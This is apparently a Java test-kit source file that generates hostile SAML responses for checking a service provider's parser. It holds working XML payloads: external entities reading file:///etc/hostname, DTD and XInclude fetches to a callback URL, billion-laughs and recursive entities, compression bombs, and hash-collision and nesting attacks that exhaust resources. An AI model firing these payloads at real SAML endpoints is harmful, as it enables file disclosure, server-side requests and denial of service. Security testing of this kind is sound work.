package io.samlsp.testkit;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.function.Function;
import java.util.function.UnaryOperator;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.GZIPOutputStream;

/** What costs much (F1 to F3) and what is no message at all (F5). */
final class ResourceAttacks {

  private static final String ROOT = "<samlp:Response ";

  private final List<Attack> all = new ArrayList<>();

  private ResourceAttacks() {}

  static List<Attack> all() {
    ResourceAttacks attacks = new ResourceAttacks();
    attacks.entities();
    attacks.sizes();
    attacks.structures();
    attacks.names();
    attacks.noMessages();
    return attacks.all;
  }

  private void edited(
      AttackClass attackClass,
      String id,
      String title,
      Function<AttackScene, UnaryOperator<String>> change) {
    all.add(
        new Attack(
            attackClass,
            id,
            title,
            scene -> scene.edited(SigningMode.ASSERTION, change.apply(scene))));
  }

  /** Into the attribute value of a message that nobody signed. */
  private void unsigned(
      AttackClass attackClass, String id, String title, UnaryOperator<String> change) {
    all.add(
        new Attack(
            attackClass,
            id,
            title,
            scene ->
                scene.hostile(
                    change.apply(scene.forged(SigningMode.NONE).build().xml()),
                    SigningMode.ASSERTION)));
  }

  private static UnaryOperator<String> value(String content) {
    return xml -> xml.replace(">admin<", ">" + content + "<");
  }

  private static UnaryOperator<String> extensions(String content) {
    return xml ->
        xml.replace(
            "<samlp:Status>", "<samlp:Extensions>" + content + "</samlp:Extensions><samlp:Status>");
  }

  private void entities() {
    AttackClass f1 = AttackClass.F1;
    edited(f1, "doctype/empty", "a DOCTYPE", s -> xml -> "<!DOCTYPE samlp:Response>" + xml);
    edited(
        f1,
        "doctype/after-comment",
        "a DOCTYPE after a comment and an instruction",
        s -> xml -> "<?xml version=\"1.0\"?><!--x--><?y z?>\n<!DOCTYPE samlp:Response>" + xml);
    edited(
        f1,
        "doctype/external",
        "an external DTD",
        s -> xml -> "<!DOCTYPE r SYSTEM \"" + s.means().callbackUrl() + "\">" + xml);
    edited(
        f1,
        "doctype/file",
        "an entity that is a file, in the NameID",
        s ->
            xml ->
                "<!DOCTYPE r [<!ENTITY e SYSTEM \"file:///etc/hostname\">]>"
                    + xml.replace(AttackScene.OWN, "&e;"));
    edited(
        f1,
        "doctype/url",
        "an entity that is fetched",
        s ->
            xml ->
                "<!DOCTYPE r [<!ENTITY e SYSTEM \""
                    + s.means().callbackUrl()
                    + "\">]>"
                    + xml.replace(AttackScene.OWN, "&e;"));
    edited(
        f1,
        "doctype/parameter",
        "a parameter entity that is fetched",
        s ->
            xml ->
                "<!DOCTYPE r [<!ENTITY % e SYSTEM \"" + s.means().callbackUrl() + "\">%e;]>" + xml);
    edited(
        f1,
        "doctype/billion-laughs",
        "entities that expand a billion times",
        s -> xml -> laughs() + xml.replace(AttackScene.OWN, "&l9;"));
    edited(
        f1,
        "doctype/quadratic",
        "one long entity ten thousand times",
        s ->
            xml ->
                "<!DOCTYPE r [<!ENTITY e \""
                    + "x".repeat(50_000)
                    + "\">]>"
                    + xml.replace(AttackScene.OWN, "&e;".repeat(10_000)));
    edited(
        f1,
        "doctype/recursive",
        "an entity that contains itself",
        s -> xml -> "<!DOCTYPE r [<!ENTITY e \"&e;\">]>" + xml.replace(AttackScene.OWN, "&e;"));
    edited(
        f1,
        "doctype/name-id-entity",
        "an entity that is the forged name",
        s ->
            xml ->
                "<!DOCTYPE r [<!ENTITY e \""
                    + AttackScene.FORGED
                    + "\">]>"
                    + xml.replace(AttackScene.OWN, "&e;"));
    edited(
        f1,
        "xinclude",
        "an XInclude of a file in the signed element",
        s ->
            xml ->
                xml.replace(
                    AttackScene.OWN,
                    "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\""
                        + " href=\"file:///etc/hostname\"/>"));
    edited(
        f1,
        "schema-location",
        "a schema that is to be fetched, in the signed element",
        s ->
            xml ->
                xml.replaceFirst(
                    "<saml:Assertion ",
                    "<saml:Assertion xsi:schemaLocation=\"urn:x "
                        + s.means().callbackUrl()
                        + "\" "));
    all.add(
        new Attack(
            f1,
            "stylesheet",
            "a stylesheet instruction that is to be fetched",
            s ->
                s.edited(
                        SigningMode.BOTH,
                        xml -> "<?xml-stylesheet href=\"" + s.means().callbackUrl() + "\"?>" + xml)
                    .orSignsIn(AttackScene.OWN)));
  }

  private static String laughs() {
    StringBuilder doctype = new StringBuilder("<!DOCTYPE r [<!ENTITY l0 \"lol\">");
    for (int i = 1; i < 10; i++) {
      doctype
          .append("<!ENTITY l")
          .append(i)
          .append(" \"")
          .append(("&l" + (i - 1) + ";").repeat(10))
          .append("\">");
    }
    return doctype.append("]>").toString();
  }

  private void sizes() {
    AttackClass f2 = AttackClass.F2;
    unsigned(f2, "size/text", "a text of sixteen megabytes", value("x".repeat(16 << 20)));
    unsigned(
        f2,
        "size/white-space",
        "sixteen megabytes of white space",
        extensions(" ".repeat(16 << 20)));
    all.add(
        new Attack(
            f2,
            "size/base64",
            "sixteen megabytes of base64",
            s -> HostileResponse.raw("A".repeat(16 << 20), "", s.own(SigningMode.BOTH).build())));
    all.add(
        new Attack(
            f2,
            "size/line-breaks",
            "sixteen megabytes of line breaks in base64",
            s ->
                HostileResponse.raw(
                    s.own(SigningMode.BOTH).build().base64() + "\n".repeat(16 << 20),
                    "",
                    s.own(SigningMode.BOTH).build())));
    compressed(
        "deflated",
        "a genuine message, deflated",
        DeflaterOutputStream::new,
        s -> s.own(SigningMode.BOTH).build().xml().getBytes(StandardCharsets.UTF_8));
    compressed(
        "deflated-bomb",
        "thirty-two megabytes of zeros, deflated",
        out -> new DeflaterOutputStream(out, new Deflater(9, true)),
        s -> new byte[32 << 20]);
    compressed(
        "gzip-bomb",
        "thirty-two megabytes of zeros, by gzip",
        GZIPOutputStream::new,
        s -> new byte[32 << 20]);
  }

  /** Opens a stream that compresses. */
  private interface Compressor {
    OutputStream open(OutputStream to) throws IOException;
  }

  private void compressed(
      String id, String title, Compressor compressor, Function<AttackScene, byte[]> content) {
    all.add(
        new Attack(
            AttackClass.F2,
            "compressed/" + id,
            title,
            scene -> {
              ByteArrayOutputStream octets = new ByteArrayOutputStream();
              try (OutputStream out = compressor.open(octets)) {
                out.write(content.apply(scene));
              } catch (IOException e) {
                throw new IllegalStateException("writing to memory failed", e);
              }
              return HostileResponse.raw(
                  Base64.getEncoder().encodeToString(octets.toByteArray()),
                  "",
                  scene.own(SigningMode.BOTH).build());
            }));
  }

  private void structures() {
    AttackClass f3 = AttackClass.F3;
    unsigned(
        f3,
        "structure/deep",
        "elements nested a hundred thousand deep",
        extensions("<a>".repeat(100_000) + "</a>".repeat(100_000)));
    unsigned(
        f3,
        "structure/deep-never-closed",
        "two hundred thousand elements never closed",
        xml -> "<a>".repeat(200_000));
    unsigned(
        f3, "structure/wide", "two hundred thousand elements", extensions("<a/>".repeat(200_000)));
    unsigned(
        f3,
        "structure/comments",
        "a hundred thousand comments",
        extensions("<!---->".repeat(100_000)));
    unsigned(
        f3,
        "structure/instructions",
        "a hundred thousand instructions",
        extensions("<?a?>".repeat(100_000)));
    unsigned(
        f3,
        "structure/misc",
        "a hundred thousand comments before the root",
        xml -> "<!---->".repeat(100_000) + xml);
    unsigned(
        f3, "structure/texts", "a hundred thousand texts", extensions("x<a/>".repeat(100_000)));
    unsigned(
        f3,
        "structure/attributes",
        "fifty thousand attributes on one element",
        extensions("<a" + numbered(" a%d=\"\"", 50_000) + "/>"));
    unsigned(
        f3,
        "structure/namespaces",
        "thirty thousand namespaces on one element",
        extensions("<a" + numbered(" xmlns:a%d=\"u:x\"", 30_000) + "/>"));
    unsigned(
        f3,
        "structure/namespaces-nested",
        "four namespaces on each of forty levels",
        extensions(
            numbered("<a xmlns:a%d=\"u:x\" xmlns:b=\"u:x\" xmlns:c=\"u:x\" xmlns:d=\"u:x\">", 40)
                + "</a>".repeat(40)));
    unsigned(
        f3,
        "structure/namespaces-in-scope",
        "sixty-five namespaces in scope",
        extensions(
            "<a"
                + numbered(" xmlns:a%d=\"u:x\"", 62)
                + "><b"
                + numbered(" xmlns:b%d=\"u:x\"", 3)
                + "/></a>"));
    unsigned(
        f3,
        "structure/cdata",
        "a hundred thousand CDATA sections",
        value("<![CDATA[]]>".repeat(80_000)));
    unsigned(
        f3,
        "structure/references",
        "a hundred thousand character references",
        value("&#120;".repeat(100_000)));
    all.add(
        new Attack(
            f3,
            "canonical/long-namespace",
            "a long namespace that the signed element repeats",
            scene -> {
              String uri = "u:" + "x".repeat(400_000);
              return scene.edited(
                  SigningMode.RESPONSE,
                  xml ->
                      extensions("<p:a/>".repeat(4_000))
                          .apply(xml)
                          .replace(ROOT, ROOT + "xmlns:p=\"" + uri + "\" "));
            }));
    all.add(
        new Attack(
            f3,
            "canonical/long-namespace-in-signed-info",
            "a long namespace that SignedInfo repeats",
            scene -> {
              String uri = "u:" + "x".repeat(400_000);
              return scene.edited(
                  SigningMode.RESPONSE,
                  xml ->
                      xml.replace("</ds:SignedInfo>", "<p:a/>".repeat(4_000) + "</ds:SignedInfo>")
                          .replace(ROOT, ROOT + "xmlns:p=\"" + uri + "\" "));
            }));
    all.add(
        new Attack(
            f3,
            "canonical/prefix-list",
            "a PrefixList of many prefixes over many elements, none like the one before it",
            scene -> {
              String list =
                  "<ec:InclusiveNamespaces xmlns:ec=\"http://www.w3.org/2001/10/xml-exc-c14n#\""
                      + " PrefixList=\""
                      + numbered("a%d ", 200)
                      + "\"/>";
              return scene.edited(
                  SigningMode.RESPONSE,
                  xml ->
                      xml.replaceFirst(
                          "(<ds:CanonicalizationMethod [^>]*)/>",
                          "$1>"
                              + list
                              + "</ds:CanonicalizationMethod>"
                              + "<a/><b xmlns:a1=\"u:x\"/>".repeat(6_000)));
            }));
    unsigned(
        f3,
        "values/long-namespace",
        "attribute values that repeat a long namespace",
        xml ->
            value("<p:a/>".repeat(4_000))
                .apply(xml)
                .replace(ROOT, ROOT + "xmlns:p=\"u:" + "x".repeat(450_000) + "\" "));
  }

  private static String numbered(String format, int count) {
    String[] parts = format.split("%d", -1);
    StringBuilder text = new StringBuilder();
    for (int i = 0; i < count; i++) {
      text.append(parts[0]).append(i).append(parts[1]);
    }
    return text.toString();
  }

  /** Names of one {@code hashCode}: CVE-2012-0881 and its kind. */
  private static List<String> colliding(int bits) {
    List<String> names = List.of("");
    for (int i = 0; i < bits; i++) {
      List<String> longer = new ArrayList<>();
      for (String name : names) {
        longer.add(name + "Aa");
        longer.add(name + "BB");
      }
      names = longer;
    }
    return names;
  }

  private void names() {
    AttackClass f3 = AttackClass.F3;
    all.add(
        new Attack(
            f3,
            "names/elements",
            "elements whose names collide",
            s ->
                s.hostile(
                    extensions(each("<%d/>", colliding(10).subList(0, 900), 15))
                        .apply(s.forged(SigningMode.NONE).build().xml()),
                    SigningMode.ASSERTION)));
    all.add(
        new Attack(
            f3,
            "names/many",
            "sixteen thousand different names",
            s ->
                s.hostile(
                    extensions(each("<%d/>", colliding(14), 1))
                        .apply(s.forged(SigningMode.NONE).build().xml()),
                    SigningMode.ASSERTION)));
    all.add(
        new Attack(
            f3,
            "names/attributes",
            "SAML attributes whose names collide",
            s ->
                s.hostile(
                    s.forged(SigningMode.NONE)
                        .build()
                        .xml()
                        .replace(
                            "</saml:AttributeStatement>",
                            each(
                                    "<saml:Attribute Name=\"%d\"/>",
                                    colliding(14).subList(0, 9_000), 1)
                                + "</saml:AttributeStatement>"),
                    SigningMode.ASSERTION)));
    all.add(
        new Attack(
            f3,
            "names/ids",
            "identifiers that collide",
            s ->
                s.hostile(
                    extensions(each("<a ID=\"%d\"/>", colliding(14).subList(0, 9_000), 1))
                        .apply(s.forged(SigningMode.NONE).build().xml()),
                    SigningMode.ASSERTION)));
  }

  private static String each(String format, List<String> names, int times) {
    String[] parts = format.split("%d", -1);
    StringBuilder text = new StringBuilder();
    for (String name : names) {
      text.append(parts[0]).append(name).append(parts[1]);
    }
    return text.toString().repeat(times);
  }

  private void raw(String id, String title, Function<FakeResponse, String> samlResponse) {
    all.add(
        new Attack(
            AttackClass.F5,
            "no-message/" + id,
            title,
            scene -> {
              FakeResponse own = scene.own(SigningMode.BOTH).build();
              return HostileResponse.raw(samlResponse.apply(own), "", own);
            }));
  }

  private static String base64(byte[] octets) {
    return Base64.getEncoder().encodeToString(octets);
  }

  private static String base64(String text) {
    return base64(text.getBytes(StandardCharsets.UTF_8));
  }

  private void noMessages() {
    raw("empty", "nothing", own -> "");
    raw("blank", "white space", own -> " \t ");
    raw("line-breaks", "line breaks", own -> "\r\n\r\n");
    raw("not-base64", "characters that are not base64", own -> "<samlp:Response/>");
    raw(
        "base64-with-spaces",
        "base64 whose plus signs became spaces",
        own -> own.base64().replaceFirst(".$", " "));
    raw(
        "base64url",
        "base64 for URLs",
        own -> Base64.getUrlEncoder().encodeToString(new byte[] {-1, -2, -3, -4, -5, -6}));
    raw("base64-cut", "half a group of base64", own -> "A");
    raw("base64-twice", "base64 of base64", own -> base64(own.base64()));
    raw("url-encoded-twice", "a value that is still URL-encoded", own -> own.base64() + "%3D");
    raw("text", "a text", own -> base64("hello"));
    raw("html", "a web page", own -> base64("<!DOCTYPE html><html><body>x</body></html>"));
    raw("json", "JSON", own -> base64("{\"nameId\":\"" + AttackScene.FORGED + "\"}"));
    raw("cut", "half a message", own -> base64(own.xml().substring(0, own.xml().length() / 2)));
    raw("one-character", "one character", own -> base64("<"));
    raw("zeros", "zeros", own -> base64(new byte[1000]));
    raw(
        "ones",
        "octets that are no UTF-8",
        own -> {
          byte[] octets = new byte[1000];
          Arrays.fill(octets, (byte) 0xff);
          return base64(octets);
        });
    raw("byte-order-marks", "nothing but byte order marks", own -> base64("\uFEFF\uFEFF"));
    raw(
        "declaration-only",
        "an XML declaration and nothing else",
        own -> base64("<?xml version=\"1.0\"?>"));
    raw("comment-only", "a comment that does not end", own -> base64("<!--"));
    raw("cdata-only", "a CDATA section that does not end", own -> base64("<a><![CDATA["));
    raw(
        "bare-root",
        "an empty Response",
        own -> base64("<samlp:Response xmlns:samlp=\"" + SamlUris.PROTOCOL + "\"/>"));
    raw("other-root", "another document", own -> base64("<a/>"));
  }
}
